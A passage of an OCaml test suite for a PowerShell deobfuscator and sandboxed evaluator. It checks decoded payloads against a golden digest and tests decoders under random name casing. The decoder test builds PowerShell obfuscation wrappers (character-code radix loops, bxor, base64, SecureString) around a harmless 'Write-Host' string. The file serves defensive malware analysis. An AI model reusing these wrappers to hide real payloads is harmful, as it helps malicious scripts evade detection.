              Pseval.Interp.invoke_payload env ~src:text parsed
            in
            add_line buf "probed"
              ([ result_text probed; string_of_int env.Pseval.Env.steps ]
              @ cursor_text env);
            (match record with
            | Some (digest, (p : Pseval.Env.payload)) ->
                add_line buf "payload"
                  [ Digest.to_hex (Digest.string digest); p.Pseval.Env.decoded;
                    string_of_int p.Pseval.Env.steps;
                    bindings_text p.Pseval.Env.reads;
                    bindings_text p.Pseval.Env.writes;
                    String.concat "," p.Pseval.Env.commands ]
            | None -> add_line buf "payload" [ "none" ]);
            match plain with
            | Ok (Value.Str s) when depth < 4 && String.length s > 8 && s <> text ->
                fold_pieces buf ~seeds ~seen ~depth:(depth + 1) s
            | Ok _ | Error _ -> ()
          end)
        (golden_pieces src ast)

(* the verify gate's budget: the step budget of the original [src] *)
let gate_budget src = Pseval.Env.step_budget ~bytes:(String.length src)

let reference_run ?payloads src =
  let limits =
    { Pseval.Env.default_limits with Pseval.Env.max_steps = gate_budget src }
  in
  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox ~limits () in
  env.Pseval.Env.payloads <- payloads;
  let result = Pseval.Interp.run_script env src in
  let state =
    [ (match result with
      | Ok out -> "ok " ^ String.concat "," (List.map value_text out)
      | Error e -> "error " ^ e);
      String.concat "," (List.map Pseval.Env.event_to_string (Pseval.Env.events env));
      String.concat "," (Pseval.Env.commands env);
      String.concat "," (List.map value_text (Pseval.Env.sunk_output env));
      bindings_text (Pseval.Env.global_bindings env);
      string_of_int env.Pseval.Env.steps ]
    @ cursor_text env
  in
  (state, Pseval.Env.global_bindings env)

let verify_log ~src text =
  match Sandbox.run_for_verify ~max_steps:(gate_budget src) text with
  | Ok log -> "ok " ^ String.concat "|" log
  | Error e -> "error " ^ e

let golden_samples () =
  let module G = Corpus.Generator in
  G.generate ~seed:81 ~count:24
  @ G.generate_hard ~seed:82 ~count:12
  @ G.generate_multilayer ~seed:83 ~count:16 ~min_depth:1 ~max_depth:4
  @ G.generate_dynamic ~seed:84 ~count:16

let test_evaluator_golden_digest () =
  let buf = Buffer.create (1 lsl 20) in
  let samples = golden_samples () in
  List.iter
    (fun (s : Corpus.Generator.sample) ->
      let src = s.Corpus.Generator.obfuscated in
      let state, final = reference_run src in
      add_line buf "reference" state;
      let payloads = Hashtbl.create 8 in
      let guarded, _ = Deobf.Engine.run_guarded_parsed ~payloads src in
      Hashtbl.fold (fun k p acc -> (k, p) :: acc) payloads []
      |> List.sort (fun (a, _) (b, _) -> String.compare a b)
      |> List.iter (fun (k, (p : Pseval.Env.payload)) ->
             add_line buf "decoded"
               [ Digest.to_hex (Digest.string k); p.Pseval.Env.decoded;
                 string_of_int p.Pseval.Env.steps ]);
      add_line buf "reused" (fst (reference_run ~payloads src));
      add_line buf "verify-in" [ verify_log ~src src ];
      add_line buf "verify-out"
        [ verify_log ~src guarded.Deobf.Engine.result.Deobf.Engine.output ];
      let seeds =
        List.filter
          (fun (_, (v : Value.t)) ->
            match v with
            | Null | Bool _ | Int _ | Float _ | Char _ | Str _ -> true
            | Arr _ | Hash _ | Script_block _ | Secure_string _ | Obj _ -> false)
          final
      in
      fold_pieces buf ~seeds ~seen:(Hashtbl.create 64) ~depth:0 src)
    samples;
  check_i "samples" 68 (List.length samples);
  check_s "digest" evaluator_digest
    (Digest.to_hex (Digest.string (Buffer.contents buf)))

(* ---------- names under random case ---------- *)

(* The paper's L1 layer randomises the case of every name; the parser keys
   names once, so a randomly cased decoder must read exactly like its
   canonical spelling: same value or error text, same step count. *)
let test_decoders_under_random_case () =
  let payload = "Write-Host 'case-check'" in
  let codes radix text =
    String.concat "," (Encoding.Digits.encode_codes radix text)
  in
  let loop codes conv =
    Printf.sprintf "((%s -split ',' | ForEach-Object { %s }) -join '')"
      ("'" ^ codes ^ "'") conv
  in
  let radix name radix conv =
    [ (name, loop (codes radix payload) conv);
      (name ^ " (bad digit)", loop (codes radix payload ^ ",9g") conv) ]
  in
  let xored = String.map (fun c -> Char.chr (Char.code c lxor 0x2A)) payload in
  let b64 = Encoding.Base64.encode payload in
  let base64 data =
    Printf.sprintf
      "([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s')))" data
  in
  let secure blob =
    Printf.sprintf
      "([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -String '%s' -Key (0..31)))))"
      blob
  in
  let decoders =
    radix "binary" Encoding.Digits.Binary "[char][convert]::ToInt32($_,2)"
    @ radix "octal" Encoding.Digits.Octal "[char][convert]::ToInt32($_,8)"
    @ radix "hex" Encoding.Digits.Hex "[char][convert]::ToInt32($_,16)"
    @ radix "decimal" Encoding.Digits.Decimal "[char][int]$_"
    @ [ ("bxor", loop (codes Encoding.Digits.Decimal xored) "[char]($_ -bxor '0x2A')");
        ("bxor (bad code)", loop "1,x" "[char]($_ -bxor '0x2A')");
        ("base64", base64 b64);
        ("base64 (bad data)", base64 ("!" ^ b64));
        ( "securestring",
          secure
            ("76492d1116743f0423413b16050a5345|"
            ^ Encoding.Base64.encode (Encoding.Utf16.encode payload)) );
        ("securestring (bad blob)", secure "no-blob") ]
  in
  let run src =
    let env = Pseval.Env.create () in
    let result = Pseval.Interp.invoke_piece env src in
    (Result.map Value.to_string result, env.Pseval.Env.steps)
  in
  List.iter
    (fun (name, src) ->
      let expected, steps = run src in
      let good = not (String.contains name '(') in
      check_b (name ^ " outcome") good
        (match expected with Ok v -> v = payload | Error _ -> false);
      let changed = ref 0 in
      for seed = 1 to 6 do
        let cased =
          Obfuscator.Obfuscate.apply (Pscommon.Rng.of_int seed)
            Obfuscator.Technique.Random_case src
        in
        if cased <> src then incr changed;
        let result, cased_steps = run cased in
        let show = function Ok v -> "ok: " ^ v | Error e -> "error: " ^ e in
        check_s (Printf.sprintf "%s, seed %d: value" name seed) (show expected)
          (show result);
        check_i (Printf.sprintf "%s, seed %d: steps" name seed) steps cased_steps
      done;
      check_b (name ^ ": spellings differ") true (!changed > 0))
    decoders

let suite =
  [
    ("decoder per-element cost", `Quick, test_decoder_element_cost);
    ("large arrays collect nothing", `Quick, test_large_arrays_collect_nothing);
    ("evaluator golden digest", `Quick, test_evaluator_golden_digest);
    ("pipeline cursors", `Quick, test_pipeline_cursors);
    ("decoders under random case", `Quick, test_decoders_under_random_case);
    ("lower of folded text allocates nothing", `Quick,
      test_lower_folded_allocates_nothing);
    ("loop output is linear", `Quick, test_loop_output_linear);
    ("a parsed piece is reusable", `Quick, test_parsed_piece_reusable);
    ("env templates stay independent", `Quick, test_env_templates_independent);
    ("concat coercions", `Quick, test_concat);
    ("arithmetic", `Quick, test_arithmetic);
    ("hex string conversion", `Quick, test_hex_string_conversion);
    ("format operator", `Quick, test_format_operator);
    ("range and index", `Quick, test_range_and_index);
    ("split/join", `Quick, test_split_join);
    ("replace ops", `Quick, test_replace_ops);
    ("comparisons", `Quick, test_comparisons);
    ("logical shortcircuit", `Quick, test_logical_shortcircuit);
    ("bitwise", `Quick, test_bitwise);
    ("variables and scope", `Quick, test_variables_and_scope);
    ("expandable strings", `Quick, test_expandable_strings);
    ("casts", `Quick, test_casts);
    ("statics", `Quick, test_statics);
    ("string methods", `Quick, test_string_methods);
    ("pipelines", `Quick, test_pipeline_foreach);
    ("invoke-expression", `Quick, test_iex);
    ("powershell -enc", `Quick, test_powershell_enc);
    ("functions", `Quick, test_functions);
    ("control flow", `Quick, test_control_flow_eval);
    ("null has no length", `Quick, test_null_length);
    ("securestring marshal", `Quick, test_securestring_marshal);
    ("deflate stream", `Quick, test_deflate_stream);
    ("recovery blocks side effects", `Quick, test_side_effects_blocked_in_recovery);
    ("sandbox records side effects", `Quick, test_side_effects_recorded_in_sandbox);
    ("step budget", `Quick, test_step_budget);
    ("output semantics", `Quick, test_output_semantics);
    ("multiple assignment", `Quick, test_multiple_assignment);
    ("named blocks", `Quick, test_named_blocks);
    ("split count", `Quick, test_split_count);
    ("math statics", `Quick, test_math_statics);
    ("url decode statics", `Quick, test_url_decode_statics);
  ]
